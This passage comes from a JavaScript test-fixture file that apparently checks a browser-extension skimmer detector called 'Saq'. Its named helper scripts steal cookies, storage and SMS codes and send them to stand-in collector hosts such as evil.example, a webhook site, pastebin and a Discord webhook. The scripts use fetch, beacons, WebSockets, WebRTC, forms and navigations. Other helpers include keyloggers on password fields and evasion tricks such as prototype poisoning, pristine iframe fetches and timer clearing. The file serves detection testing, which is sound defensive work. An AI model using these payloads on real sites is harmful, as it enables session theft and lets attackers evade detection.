  document.documentElement.dataset.k = encodeURIComponent(document.cookie);
  const sender = document.createElement('script');
  sender.textContent =
    "fetch('https://evil.example/relay?c=' + document.documentElement.dataset.k, { mode: 'no-cors' }).catch(() => {});" +
    "navigator.sendBeacon('https://evil.example/relay-body', JSON.stringify({ c: decodeURIComponent(document.documentElement.dataset.k) }));";
  document.head.appendChild(sender);
})();`,

  /**
   * The cookie carried off in the URL of a window it opens: `window.open`, `document.open(url, name, features)`
   * (the same call by another name) and `window.open` given an object whose toString makes the address. Each
   * window is closed at once: the address has gone out by then.
   */
  'opened-window': `(() => {
  const c = encodeURIComponent(document.cookie);
  const shut = (w) => { if (w) setTimeout(() => w.close(), 50); };
  shut(window.open('https://evil.example/w-open?c=' + c, '_blank', ''));
  shut(document.open('https://evil.example/w-document?c=' + c, 'helper-sink', ''));
  shut(window.open({ toString: () => 'https://evil.example/w-object?c=' + c }));
})();`,

  /**
   * Puts its collector on links as hyperlink-auditing pings, the cookie in the URL (the browser POSTs to each
   * when the link is followed; Chromium sends them, Firefox not by default): by the `ping` property, by
   * setAttribute, and in markup.
   */
  'ping-links': `(() => {
  const c = encodeURIComponent(document.cookie);
  const link = (href) => { const a = document.createElement('a'); a.href = href; a.textContent = 'Ілбіс'; return a; };
  const byProperty = link('/kz/pages/questions');
  byProperty.ping = 'https://evil.example/ping-property?c=' + c;
  const byAttribute = link('/kz/cart');
  byAttribute.setAttribute('PING', '/kz/stats https://evil.example/ping-attribute?c=' + c);
  const holder = document.createElement('div');
  holder.innerHTML = '<a href="/kz/" ping="https://evil.example/ping-markup?c=' + c + '">Ілбіс</a>';
  document.body.append(byProperty, byAttribute, holder);
  window.__pinged = true;
})();`,

  /**
   * The cookie sent by Chromium's newer channels where the browser has them: a deferred fetch (`fetchLater`,
   * sent once `activateAfter` passes or the page is left; a Request, and a URL with an init) and a
   * WebSocketStream (its connection fails here: the attempt is what counts).
   */
  'deferred-sends': `(() => {
  const c = encodeURIComponent(document.cookie);
  if (typeof fetchLater === 'function') {
    fetchLater(new Request('https://evil.example/later-request?c=' + c, { method: 'POST', body: c }));
    fetchLater('https://evil.example/later-init?c=' + c, { method: 'POST', body: c, activateAfter: 0 });
  }
  if (typeof WebSocketStream === 'function') {
    const stream = new WebSocketStream('wss://evil.example/stream?c=' + c);
    stream.opened.catch(() => {});
    stream.closed.catch(() => {});
  }
  window.__deferred = true;
})();`,

  /**
   * Carries the cookie off in navigations, which no request API makes: frames with shop documents of their
   * own, one sent away through its Location, one by a scripted click on a link that targets it, one given a
   * data: document that sends it; and the page itself by location.assign (where the browser has the
   * Navigation API, this helper cancels its own top-level navigation so the test keeps the page). First it
   * makes the page's navigate-event getters lie: every navigation the person's, and to the shop.
   */
  navigations: `(() => {
  const c = encodeURIComponent(document.cookie);
  let urlOf = (d) => d.url;
  if (typeof navigation === 'object') {
    const get = Object.getOwnPropertyDescriptor(NavigationDestination.prototype, 'url').get;
    urlOf = (d) => get.call(d);
    Object.defineProperty(NavigationDestination.prototype, 'url', { get: () => location.origin + '/kz/', configurable: true });
    Object.defineProperty(NavigateEvent.prototype, 'userInitiated', { get: () => true, configurable: true });
  }
  ${SHOP_FRAME}
  Promise.all([frame('saq-nav-a'), frame('saq-nav-b'), frame('saq-nav-c')]).then(([a, , d]) => {
    a.onload = d.onload = null;
    a.contentWindow.location.href = 'https://evil.example/nav-frame?c=' + c;
    d.contentWindow.location.replace('data:text/html,<script>fetch("https://evil.example/nav-data?c=' + c + '", { mode: "no-cors" })</script>');
    const link = document.createElement('a');
    link.href = 'https://evil.example/nav-link?c=' + c;
    link.target = 'saq-nav-b';
    document.body.appendChild(link);
    link.click();
    if (typeof navigation === 'object') {
      navigation.addEventListener('navigate', (e) => urlOf(e.destination).includes('/nav-top') && e.preventDefault());
      location.assign('https://evil.example/nav-top?c=' + c);
    }
    window.__navigated = true;
  });
})();`,

  /**
   * Carries the cookie off with a frame's (a shop document of its own) location.assign bound and handed to a
   * timer: the call runs with no script of the page's on the stack.
   */
  'navigation-bound': `(() => {
  const c = encodeURIComponent(document.cookie);
  ${SHOP_FRAME}
  frame('saq-nav-bound').then((f) => {
    f.onload = null;
    setTimeout(f.contentWindow.location.assign.bind(f.contentWindow.location), 0, 'https://evil.example/nav-bound?c=' + c);
    setTimeout(() => (window.__navigated = true), 100);
  });
})();`,

  /**
   * Carries the cookie off in navigations a script starts without `location`: links it follows — a click event
   * dispatched on a link into a frame (a shop document of its own), click() on an element inside a link into
   * another, click() on a link that opens a new window and on one the document's `<base target>` sends there
   * (the helper cancels those itself, so the test keeps one tab; the attempt is what counts) — and
   * `<meta http-equiv=refresh>` put into frames' documents by property, by setAttribute (quoted URL, any case),
   * by markup, and parsed by a DOMParser and moved in.
   */
  'link-follows': `(() => {
  const c = encodeURIComponent(document.cookie);
  ${SHOP_FRAME}
  Promise.all([frame('saq-link-a'), frame('saq-link-b'), frame('saq-link-c'), frame('saq-meta-a'), frame('saq-meta-b'), frame('saq-meta-c'), frame('saq-meta-d'), frame('saq-meta-e')]).then(([link, inner, own, a, b, m, p, n]) => {
    link.onload = inner.onload = own.onload = a.onload = b.onload = m.onload = p.onload = n.onload = null;
    const into = document.createElement('a');
    into.href = 'https://evil.example/link-dispatched?c=' + c;
    into.target = 'saq-link-a';
    document.body.appendChild(into);
    into.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
    const around = document.createElement('a');
    around.href = 'https://evil.example/link-inner?c=' + c;
    around.target = 'saq-link-b';
    around.innerHTML = '<span><b>Акция</b></span>';
    document.body.appendChild(around);
    around.querySelector('b').click();
    // A link with no target, in a frame's own document: that document navigates itself (Firefox 153 fires its
    // navigate event a task later, with no script on the stack).
    const self = own.contentDocument.createElement('a');
    self.href = 'https://evil.example/link-self?c=' + c;
    own.contentDocument.body.appendChild(self);
    self.click();
    const blank = document.createElement('a');
    blank.href = 'https://evil.example/link-blank?c=' + c;
    blank.target = '_blank';
    blank.addEventListener('click', (e) => e.preventDefault());
    document.body.appendChild(blank);
    blank.click();
    // No target of its own: the document's first <base target> sends it to a new window.
    const base = document.createElement('base');
    base.target = '_blank';
    document.head.prepend(base);
    const based = document.createElement('a');
    based.href = 'https://evil.example/link-base?c=' + c;
    based.addEventListener('click', (e) => e.preventDefault());
    document.body.appendChild(based);
    based.click();
    base.remove();
    const da = a.contentDocument, db = b.contentDocument, dm = m.contentDocument;
    const byProperty = da.createElement('meta');
    byProperty.httpEquiv = 'refresh';
    byProperty.content = '0;url=https://evil.example/meta-prop?c=' + c;
    da.head.appendChild(byProperty);
    const byAttribute = db.createElement('meta');
    byAttribute.setAttribute('content', "0; URL='https://evil.example/meta-attr?c=" + c + "'");
    byAttribute.setAttribute('HTTP-EQUIV', 'Refresh');
    db.head.appendChild(byAttribute);
    dm.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0,https://evil.example/meta-markup?c=' + c + '">');
    // Parsed apart from the page, the element gets its attributes from no hooked call; it refreshes once moved in.
    const parsed = new DOMParser().parseFromString('<meta http-equiv="refresh" content="0;url=https://evil.example/meta-parsed?c=' + c + '">', 'text/html');
    p.contentDocument.head.appendChild(parsed.querySelector('meta'));
    // Put in with an empty content (no refresh), then given its URL through the content attribute's Attr node:
    // no setAttribute, no property setter and no insertion carries that URL.
    const byNode = n.contentDocument.createElement('meta');
    byNode.setAttribute('http-equiv', 'refresh');
    byNode.setAttribute('content', '');
    n.contentDocument.head.appendChild(byNode);
    byNode.getAttributeNode('content').nodeValue = '0;url=https://evil.example/meta-node?c=' + c;
    window.__followed = true;
  });
})();`,

  /**
   * Opens an XHR to its collector, then calls open() again in ways the browser refuses (too few arguments, a
   * forbidden method, a URL that does not parse): the request opened first still goes, with the cookie.
   */
  'xhr-reopen-refused': `(() => {
  const xhr = new XMLHttpRequest();
  xhr.open('POST', 'https://evil.example/xhr-reopened');
  for (const args of [['GET'], ['CONNECT', '/'], ['GET', 'https://[']]) {
    try { xhr.open(...args); } catch {}
  }
  xhr.send(document.cookie);
})();`,

  /** Sends the cookie in a URL padded past 2 KB (longer than a finding's strings may be). */
  'padded-url': `fetch('https://evil.example/padded?c=' + encodeURIComponent(document.cookie) + '&pad=' + 'x'.repeat(4000), { mode: 'no-cors' }).catch(() => {});`,

  /** Leaks storage by sendBeacon to a webhook site. */
  'beacon-storage': `navigator.sendBeacon('https://webhook.site/5c1a-test', JSON.stringify({ ...localStorage, cookie: document.cookie }));`,

  /** Streams the cookie over a WebSocket. */
  websocket: `(() => {
  const socket = new WebSocket('wss://evil.example/ws');
  socket.onopen = () => socket.send(document.cookie);
})();`,

  /**
   * Carries the cookie off over WebRTC, which no request hook, webRequest or CSP sees: a TURN relay given the
   * cookie as its username (through Chromium's `webkitRTCPeerConnection` alias where there is one); a
   * connection to a peer hard-coded in the script, its address in the answer's SDP and trickled in (as the
   * 2026 skimmers did; the answer is made by a second connection in the page, the address put in); and a data
   * channel that opens — to a connection in the page standing in for the peer — and sends the cookie.
   */
  webrtc: `(async () => {
  const cookie = document.cookie;
  const Peer = window.webkitRTCPeerConnection || RTCPeerConnection;
  new Peer({ iceServers: [{ urls: 'turn:relay.evil.example:3478?transport=udp', username: encodeURIComponent(cookie).slice(0, 200), credential: 'x' }] });
  ${HARD_CODED_PEER}
  await pc.addIceCandidate({ candidate: 'candidate:2 1 udp 2122260223 198.51.100.9 3479 typ host', sdpMid: '0' });
  const out = new RTCPeerConnection();
  const peer = new RTCPeerConnection();
  out.onicecandidate = (e) => e.candidate && peer.addIceCandidate(e.candidate).catch(() => {});
  peer.onicecandidate = (e) => e.candidate && out.addIceCandidate(e.candidate).catch(() => {});
  const channel = out.createDataChannel('loot');
  channel.onopen = () => {
    channel.send('c=' + document.cookie);
    window.__webrtcSent = true;
  };
  await out.setLocalDescription(await out.createOffer());
  await peer.setRemoteDescription(out.localDescription);
  await peer.setLocalDescription(await peer.createAnswer());
  await out.setRemoteDescription(peer.localDescription);
})();`,

  /**
   * Sends the cookie over a data channel to a peer that never signals an address (UNSIGNALLED_CHANNEL): no ICE
   * server, no candidate in the answer, none trickled — the connection knows its peer only from its checks.
   */
  'webrtc-unsignalled-peer': `(async () => {
  ${UNSIGNALLED_CHANNEL}
  await unsignalled('loot', (channel) => {
    channel.send('c=' + document.cookie);
    window.__webrtcSent = true;
  });
})();`,

  /**
   * The cookie in the URL of connections other than a WebSocket: an EventSource stream (a string URL, and
   * a URL object), and a WebTransport session where the browser has it (its connection fails: the attempt
   * is what Saq can see).
   */
  'stream-urls': `(() => {
  const c = encodeURIComponent(document.cookie);
  new EventSource('https://evil.example/s-events?c=' + c).onerror = (e) => e.target.close();
  new EventSource(new URL('https://evil.example/s-events-object?c=' + c)).onerror = (e) => e.target.close();
  if (typeof WebTransport === 'function') {
    const session = new WebTransport('https://evil.example/s-transport?c=' + c);
    session.ready.catch(() => {});
    session.closed.catch(() => {});
  }
})();`,

  /**
   * Points forms at its collector only inside their own submit listeners, after Saq's capture listener has
   * read the shop's action: the form's `action` set as a property, a submit button's `formaction` by
   * setAttribute. The cookie travels in a field, in the post's body; the action is put back afterwards.
   */
  'form-swap': `(() => {
  const form = (sink, button) => {
    const frame = document.createElement('iframe');
    frame.name = sink;
    frame.hidden = true;
    const f = document.createElement('form');
    f.method = 'POST';
    f.action = '/kz/pages/questions';
    f.target = sink;
    const field = document.createElement('input');
    field.name = 'note';
    field.value = document.cookie;
    f.append(field, button);
    document.body.append(frame, f);
    return f;
  };
  const first = form('swap-sink-1', document.createElement('button'));
  first.addEventListener('submit', () => {
    first.action = 'https://evil.example/f-swap';
    setTimeout(() => (first.action = '/kz/pages/questions'), 0);
  });
  first.requestSubmit();
  const button = document.createElement('button');
  const second = form('swap-sink-2', button);
  second.addEventListener('submit', () => button.setAttribute('formaction', 'https://evil.example/f-formaction-swap'));
  second.requestSubmit(button);
})();`,

  /**
   * Writes its code into event-handler attributes of images that fail to load — by setAttribute (the name
   * as text, as a function whose toString makes it, as an object whose toString says another name the
   * second time), setAttributeNS (the namespace an object that makes ''), an Attr node (attached with its
   * value; an empty one's nodeValue and textContent written), innerHTML (as text, as an object whose
   * toString makes it, inside a template cloned in, after eight decoy handlers), insertAdjacentHTML (an
   * attribute right after a quoted value), a DOMParser's document moved in, and execCommand('insertHTML'):
   * the code runs under the shop's URL, with no <script> and no code-making call. Each marks that it ran.
   */
  'handler-attributes': `(() => {
  const code = (way) => "/* helper " + way + " */ window.__handlers = (window.__handlers || []).concat('" + way + "');";
  const broken = (way) => '/helper-broken-' + way + '.png';
  const viaSetAttribute = document.createElement('img');
  viaSetAttribute.setAttribute('OnError', code('set-attribute'));
  viaSetAttribute.src = broken('set-attribute');
  const attr = document.createAttribute('onerror');
  attr.value = code('attr-node');
  const viaAttr = document.createElement('img');
  viaAttr.setAttributeNode(attr);
  viaAttr.src = broken('attr-node');
  const viaInnerHtml = document.createElement('div');
  viaInnerHtml.innerHTML = '<p>Coins</p><img src="' + broken('inner-html') + '" onerror="' + code('inner-html') + '">';
  const viaObject = document.createElement('div');
  viaObject.innerHTML = {
    toString: () => {
      window.__markupMade = (window.__markupMade || 0) + 1;
      return '<img src="' + broken('object-markup') + '" onerror="' + code('object-markup') + '">';
    },
  };
  const img = (way) => '<img src="' + broken(way) + '" onerror="' + code(way) + '">';
  // The name as a function whose toString makes it; the namespace as an object that makes '' (none).
  const viaFunctionName = document.createElement('img');
  viaFunctionName.setAttribute(Object.assign(() => {}, { toString: () => 'onerror' }), code('function-name'));
  viaFunctionName.src = broken('function-name');
  // A name that says 'onerror' the first time it is made text and 'title' after: the browser's conversion
  // and the one Saq judges must be the same one.
  let asked = 0;
  const viaChangingName = document.createElement('img');
  viaChangingName.setAttribute({ toString: () => (asked++ === 0 ? 'onerror' : 'title') }, code('changing-name'));
  viaChangingName.src = broken('changing-name');
  // An empty handler first (no code, nothing to judge), its text then written through Node's setters.
  const viaNodeValue = document.createElement('img');
  viaNodeValue.setAttribute('onerror', '');
  viaNodeValue.getAttributeNode('onerror').nodeValue = code('attr-node-value');
  viaNodeValue.src = broken('attr-node-value');
  const viaTextContent = document.createElement('img');
  viaTextContent.setAttribute('onerror', '');
  viaTextContent.getAttributeNode('onerror').textContent = code('attr-text-content');
  viaTextContent.src = broken('attr-text-content');
  const viaNamespaceObject = document.createElement('img');
  viaNamespaceObject.setAttributeNS({ toString: () => '' }, 'onerror', code('namespace-object'));
  viaNamespaceObject.src = broken('namespace-object');
  // Inside a template, whose content the helper clones in; after eight decoy handlers.
  const holder = document.createElement('div');
  holder.innerHTML = '<template>' + img('nested-template') + '</template>';
  const padded = document.createElement('div');
  padded.innerHTML = '<b onclick="0">'.repeat(8) + img('padded');
  // Parsed apart by a DOMParser, then moved in.
  const parsed = new DOMParser().parseFromString(img('parsed-apart'), 'text/html').body.firstChild;
  document.body.append(viaSetAttribute, viaAttr, viaInnerHtml, viaObject, viaFunctionName, viaChangingName, viaNodeValue, viaTextContent, viaNamespaceObject, padded, parsed);
  document.body.append(holder.firstChild.content.cloneNode(true));
  document.body.insertAdjacentHTML('beforeend', '<img src="' + broken('adjacent') + '"onerror="' + code('adjacent') + '">');
  // At the caret of an editable box (whether the browser keeps the handler there is its own business).
  const editable = document.createElement('div');
  editable.contentEditable = 'true';
  document.body.append(editable);
  editable.focus();
  document.execCommand('insertHTML', false, img('exec-command'));
  document.execCommand(new String('insertHTML'), false, img('exec-command-object'));
  // Written into a frame's document with the attribute's name split between two arguments of one call
  // (the browser writes them as one text); the handler runs in the frame, so it reports to the top window.
  const frame = document.createElement('iframe');
  frame.hidden = true;
  document.body.append(frame);
  const framed = frame.contentDocument;
  framed.open();
  framed.write('<img src="' + broken('write-arguments') + '" on', 'error="' + code('write-arguments').replaceAll('window.', 'top.') + '">');
  framed.close();
  // The same across two calls: neither text holds a handler, the parser makes one of them.
  const split = document.createElement('iframe');
  split.hidden = true;
  document.body.append(split);
  const splitDocument = split.contentDocument;
  splitDocument.open();
  splitDocument.write('<p>Монеты</p><img title="a > b" src="' + broken('write-calls') + '" on');
  splitDocument.write('error="' + code('write-calls').replaceAll('window.', 'top.') + '">');
  splitDocument.close();
})();`,

  /** Posts hidden forms: one to a paste site, one by requestSubmit(button) whose formaction is a collector. */
  'form-post': `(() => {
  const frame = document.createElement('iframe');
  frame.name = 'helper-sink';
  frame.hidden = true;
  document.body.append(frame);
  const hidden = (action) => {
    const form = document.createElement('form');
    form.method = 'POST';
    form.action = action;
    form.target = 'helper-sink';
    const field = document.createElement('input');
    field.name = 'api_paste_code';
    field.value = document.cookie;
    form.appendChild(field);
    document.body.append(form);
    return form;
  };
  hidden('https://pastebin.com/api/api_post.php').submit();
  // The shop's own action on the form, the collector on its button's formaction (which overrides it).
  const second = hidden('/kz/search');
  const button = document.createElement('button');
  button.formAction = 'https://evil.example/formaction';
  second.append(button);
  second.requestSubmit(button);
})();`,

  /** A "script pixel": the data goes out in the URL of a script element. */
  'script-pixel': `(() => {
  const pixel = document.createElement('script');
  pixel.src = ${JSON.stringify(DISCORD_WEBHOOK)} + '?content=' + encodeURIComponent(document.cookie);
  document.head.appendChild(pixel);
})();`,

  /** Session storage to a Discord webhook by XHR. */
  'xhr-session': `(() => {
  const xhr = new XMLHttpRequest();
  xhr.open('POST', ${JSON.stringify(DISCORD_WEBHOOK)});
  xhr.setRequestHeader('Content-Type', 'application/json');
  xhr.send(JSON.stringify({ content: JSON.stringify({ ...sessionStorage }) }));
})();`,

  /** A keylogger on the password field itself. */
  'field-keylogger': `(() => {
  const keys = [];
  document.querySelector('[data-role="password"]').addEventListener('keydown', (event) => keys.push(event.key));
})();`,

  /** A keylogger on the sign-in form around the password field: every keystroke in the field bubbles to it. */
  'form-keylogger': `(() => {
  const keys = [];
  document.querySelector('[data-role="login-form"]').addEventListener('keydown', (event) => keys.push(event.key));
})();`,

  /** A keylogger on the page's wrapper around both sign-in forms, through the handler property. */
  'wrapper-keylogger': `(() => {
  const keys = [];
  document.querySelector('.checkout').oninput = (event) => keys.push(event.data);
})();`,

  /**
   * Keyloggers around a sign-in form that lives in a component's open shadow root (SHADOW_LOGIN): on the
   * host in the page, on the shadow root, on a wrapper inside it, and on the whole document — each through
   * its own event, so the test tells them apart.
   */
  'shadow-keyloggers': `(() => {
  const keys = [];
  const log = (event) => keys.push(event.key || event.data);
  const attach = () => {
    const host = document.querySelector('shop-sign-in');
    const root = host && host.shadowRoot;
    if (!root || !root.querySelector('.fields')) return void setTimeout(attach, 20);
    host.addEventListener('keydown', log);
    root.addEventListener('input', log);
    root.querySelector('.fields').onkeyup = log;
    document.onkeypress = log;
    window.__shadowLoggers = true;
  };
  attach();
})();`,

  /**
   * Keyloggers around sign-in fields in closed shadow roots (CLOSED_LOGIN), which the page — this helper
   * too — cannot look into: on the password field's host, on the document, on the window.
   */
  'closed-shadow-keyloggers': `(() => {
  const keys = [];
  const log = (event) => keys.push(event.key || event.data);
  const attach = () => {
    const host = document.querySelector('shop-password-field');
    if (!host || !window.__closedLoginReady) return void setTimeout(attach, 20);
    host.addEventListener('keydown', log);
    document.onkeypress = log;
    window.addEventListener('input', log);
    window.__closedLoggers = true;
  };
  attach();
})();`,

  /** Benign: a chat widget from its own host, listening for keys in its own box only (no secret field inside). */
  'chat-widget': `(() => {
  const box = document.createElement('div');
  box.className = 'chat';
  box.innerHTML = '<textarea aria-label="Chat"></textarea>';
  box.addEventListener('keydown', (event) => { if (event.key === 'Enter') event.preventDefault(); });
  document.body.append(box);
})();`,

  /** A keylogger on the whole document, through the handler property. */
  'document-keylogger': `(() => {
  const keys = [];
  document.onkeyup = (event) => keys.push(event.key);
})();`,

  /** A document-wide key listener whose type is a function that makes 'keydown' (the browser reads it as text). */
  /**
   * Works through Object.prototype, which the engine consults for objects Saq hands it: a \`get\` put there is
   * a trap for every Proxy handler that inherits it (taking the original Worker off Saq's hook), and makes
   * every data descriptor inherit an accessor (every defineProperty with one throws) while the cookie goes.
   */
  'poisoned-prototype': `(() => {
  const shared = Object.prototype;
  let original = null;
  shared.get = function (target, key, receiver) { original = target; return Reflect.get(target, key, receiver); };
  void Worker.prototype;
  delete shared.get;
  shared.get = function () {};
  try {
    fetch('https://evil.example/poisoned-get?c=' + encodeURIComponent(document.cookie), { mode: 'no-cors' }).catch(() => {});
  } finally {
    delete shared.get;
  }
  const Start = original || Worker;
  new Start(URL.createObjectURL(new Blob(['fetch("https://evil.example/poisoned-worker", { mode: "no-cors" })'], { type: 'text/javascript' })));
  window.__poisonedTook = original !== null;
})();`,

  /**
   * Works through fields Saq's own objects leave out, which the page's Object.prototype answers: \`extension\`
   * and \`evaled\` put there (every stack frame Saq read that left them out was another extension's), then
   * \`once\` while a frame's realm is adopted (its submit listener, added then, would hear one submit only:
   * a decoy's, before the cookie goes by a second form).
   */
  'poisoned-fields': `(() => {
  const shared = Object.prototype;
  shared.extension = true;
  shared.evaled = true;
  try {
    fetch('https://evil.example/poisoned-extension?c=' + encodeURIComponent(document.cookie), { mode: 'no-cors' }).catch(() => {});
  } finally {
    delete shared.extension;
    delete shared.evaled;
  }
  const sink = document.createElement('iframe');
  sink.name = 'poisoned-sink';
  sink.hidden = true;
  document.body.append(sink);
  const frame = document.createElement('iframe');
  frame.hidden = true;
  let doc;
  shared.once = true;
  try {
    document.body.append(frame);
    doc = frame.contentDocument;
  } finally {
    delete shared.once;
  }
  // Forms from markup: an action written by the parser is judged at the submission only, by that listener.
  const form = (action) => {
    const holder = doc.createElement('div');
    holder.innerHTML = '<form method="post" target="poisoned-sink" action="' + action + '"><input name="note"></form>';
    doc.body.append(holder);
    const f = holder.firstChild;
    f.elements.note.value = document.cookie;
    return f;
  };
  form('/kz/search').requestSubmit();
  form('https://evil.example/poisoned-once').requestSubmit();
})();`,

  /**
   * Puts a \`then\` on Object.prototype that holds back for good what the engine resolves promises with — a
   * stream read's \`{ value, done }\`, a digest's ArrayBuffer — then sends the cookie in a fetch body and inserts
   * an inline script: the report of each waited for one of those.
   */
  /**
   * Clears every timer id the page could name, every 5 ms — setTimeout's, setInterval's and
   * requestIdleCallback's ids are small whole numbers in both browsers, and the page's clear functions take
   * any — while it acts: three sends a few ms apart (the content script's batching), its own 200 KB inline
   * script that clicks add to cart (hashed in steps), and fetch swapped for a pristine frame's after load.
   */
  'timer-clearing': `(() => {
  const evil = (path) => 'https://evil.example/' + path + '?c=' + encodeURIComponent(document.cookie);
  const big = 'var __pad = "' + 'x'.repeat(200000) + '"; document.querySelector("[data-action=add-to-cart]").click(); window.__bigRan = 1;';
  let mine = 0;
  let ticks = 0;
  const clearAll = () => {
    for (let id = 1; id < 20000; id++) if (id !== mine) clearTimeout(id);
    if (typeof cancelIdleCallback === 'function') for (let id = 1; id < 20000; id++) cancelIdleCallback(id);
    ticks++;
    if (ticks === 40) fetch(evil('cleared-1'), { mode: 'no-cors' }).catch(() => {});
    if (ticks === 41) fetch(evil('cleared-2'), { mode: 'no-cors' }).catch(() => {});
    if (ticks === 42) fetch(evil('cleared-3'), { mode: 'no-cors' }).catch(() => {});
    if (ticks === 80) {
      const inline = document.createElement('script');
      inline.textContent = big;
      document.head.append(inline);
    }
    if (ticks === 120 && document.readyState === 'complete') {
      const frame = document.createElement('iframe');
      frame.hidden = true;
      document.body.append(frame);
      window.fetch = frame.contentWindow.fetch;
    } else if (ticks === 120) ticks--;
    if (ticks === 700) window.__cleared = true;
  };
  mine = setInterval(clearAll, 5);
})();`,

  /**
   * Stores a value with half a surrogate pair (no UTF-8 for it: encodeURIComponent throws on it), then posts
   * the cookie in a body to a URL that carries none of the page's secrets.
   */
  'poisoned-storage': `(() => {
  sessionStorage.setItem('saq-poison', 'AAAAAAAA\\uD800');
  fetch('https://evil.example/poisoned-storage', { method: 'POST', body: document.cookie, mode: 'no-cors' }).catch(() => {});
})();`,

  'poisoned-then': `(() => {
  Object.defineProperty(Object.prototype, 'then', {
    configurable: true,
    get() {
      const held = this instanceof ArrayBuffer || (Object.hasOwn(this, 'done') && Object.hasOwn(this, 'value'));
      return held ? function () {} : undefined;
    },
  });
  fetch('https://evil.example/poisoned-then', { method: 'POST', mode: 'no-cors', body: document.cookie }).catch(() => {});
  const inline = document.createElement('script');
  inline.textContent = 'window.__poisonedThenRan = true;';
  document.head.append(inline);
})();`,

  /** A window-wide key listener added by a bare call, as top-level code writes it (no receiver: the window). */
  'bare-keylogger': `(() => {
  const keys = [];
  const listen = addEventListener;
  listen('keydown', (event) => keys.push(event.key));
})();`,

  'disguised-keylogger': `(() => {
  const keys = [];
  document.addEventListener(Object.assign(function () {}, { toString: () => 'keydown' }), (event) => keys.push(event.key));
})();`,

  /** Grabs the SMS code as it is typed and sends it with fetch. */
  'sms-grabber': `(() => {
  const field = document.querySelector('[data-role="sms-code"]');
  document.querySelector('[data-role="password"]').addEventListener('change', () => {
    fetch('https://evil.example/otp', { method: 'POST', mode: 'no-cors', body: field.value || 'empty' });
  });
  fetch('https://evil.example/otp-armed', { method: 'POST', mode: 'no-cors', body: field.value });
})();`,

  /** Takes a pristine fetch from a fresh about:blank iframe to slip past the page's hooks. */
  'pristine-iframe': `(() => {
  const frame = document.createElement('iframe');
  frame.style.display = 'none';
  document.body.appendChild(frame);
  const cleanFetch = frame.contentWindow.fetch;
  cleanFetch('https://evil.example/pristine?c=' + encodeURIComponent(document.cookie));
})();`,

  /** The same trick without touching contentWindow: innerHTML, then window[n]. */
  'pristine-window-index': `(() => {
  const holder = document.createElement('div');
  document.body.appendChild(holder);
  holder.innerHTML = '<iframe style="display:none"></iframe>';
  const clean = window[window.length - 1];
  clean.fetch('https://evil.example/indexed?c=' + encodeURIComponent(document.cookie));
})();`,

  /**
   * A frame made by markup (adopted as it is made), then given a new realm by navigating it: its load event
   * comes when the new realm is there, and the helper takes that realm's fetch by window[n], reading no
   * frame accessor Saq hooks.
   */
  'pristine-window-index-reloaded': `(() => {
  const holder = document.createElement('div');
  document.body.appendChild(holder);
  holder.innerHTML = '<iframe style="display:none"></iframe>';
  const frame = holder.firstChild;
  const index = window.length - 1;
  ${sendAtSrcdocLoad('frame', 'window[index]', 'reloaded')}
})();`,

  /**
   * The same in a closed shadow root: a frame's load event does not leave its shadow tree, so the document's
   * listener never hears it. The helper keeps the frame's window from one read of `contentWindow` (a
   * WindowProxy follows the frame into its next realm) and takes the new realm's fetch when it loads.
   */
  'pristine-shadow-reloaded': `(() => {
  const host = document.createElement('div');
  document.body.appendChild(host);
  const root = host.attachShadow({ mode: 'closed' });
  root.innerHTML = '<iframe style="display:none"></iframe>';
  const frame = root.firstChild;
  const proxy = frame.contentWindow;
  ${sendAtSrcdocLoad('frame', 'proxy', 'shadow-reloaded')}
})();`,

  /**
   * The same one frame down: a frame made inside a same-origin frame is navigated, and its new realm's fetch is
   * taken by `window[i][0]` at its load, which reaches the inner frame's document, not the page's.
   */
  'pristine-nested-reloaded': `(() => {
  const outer = document.createElement('iframe');
  outer.style.display = 'none';
  document.body.appendChild(outer);
  const index = window.length - 1;
  const inner = window[index].document.createElement('iframe');
  window[index].document.body.appendChild(inner);
  ${sendAtSrcdocLoad('inner', 'window[index][0]', 'nested-reloaded')}
})();`,

  /** An <object> browsing context (about:blank): its window taken by contentWindow at its load. */
  'pristine-object': `(() => {
  const object = document.createElement('object');
  object.type = 'text/html';
  object.data = 'about:blank';
  object.style.cssText = 'position:absolute;left:-9999px;width:10px;height:10px';
  object.addEventListener('load', () => {
    object.contentWindow.fetch('https://evil.example/pristine-object?c=' + encodeURIComponent(document.cookie));
  });
  document.body.appendChild(object);
})();`,

  /** An <embed> browsing context (about:blank): its window taken by window[n] once it is there. */
  'pristine-embed': `(() => {
  const embed = document.createElement('embed');
  embed.type = 'text/html';
  embed.src = 'about:blank';
  embed.style.cssText = 'position:absolute;left:-9999px;width:10px;height:10px';
  const before = window.length;
  document.body.appendChild(embed);
  const poll = () => {
    if (window.length === before) return void setTimeout(poll, 10);
    setTimeout(() => window[window.length - 1].fetch('https://evil.example/pristine-embed?c=' + encodeURIComponent(document.cookie)), 500);
  };
  poll();
})();`,

  /** A <frame> put in the body (no frameset needed): it gets a browsing context, reached by window[n]. */
  'pristine-frame-element': `(() => {
  document.body.appendChild(document.createElement('frame'));
  const clean = window[window.length - 1];
  setTimeout(() => clean.fetch('https://evil.example/pristine-frame-element?c=' + encodeURIComponent(document.cookie)), 300);
})();`,

  /** An iframe made by execCommand('insertHTML') in an editable element, reached by window[n] at once. */
  'pristine-inserthtml': `(() => {
  const editor = document.createElement('div');
  editor.contentEditable = 'true';
  editor.style.cssText = 'position:absolute;left:-9999px';
  document.body.appendChild(editor);
  editor.focus();
  const range = document.createRange();
  range.selectNodeContents(editor);
  getSelection().removeAllRanges();
  getSelection().addRange(range);
  document.execCommand('insertHTML', false, '<iframe></iframe>');
  window[window.length - 1].fetch('https://evil.example/pristine-inserthtml?c=' + encodeURIComponent(document.cookie));
})();`,

  /**
   * 'pristine-nested-reloaded' after document.open() on the outer frame's document: open erases every
   * listener on that document, Saq's capture 'load' listener with them.
   */
  'pristine-reopened-nested': `(() => {
  const outer = document.createElement('iframe');
  outer.style.display = 'none';
  document.body.appendChild(outer);
  const index = window.length - 1;
  const doc = window[index].document;
  doc.open();
  doc.write('<iframe></iframe>');
  doc.close();
  const inner = doc.querySelector('iframe');
  ${sendAtSrcdocLoad('inner', 'window[index][0]', 'pristine-reopened-nested')}
})();`,

  /** A frame navigated to srcdoc, its new realm's fetch taken by polling window[n] before the frame's load. */
  'pristine-polled-srcdoc': `(() => {
  const frame = document.createElement('iframe');
  frame.style.display = 'none';
  document.body.appendChild(frame);
  const proxy = window[window.length - 1];
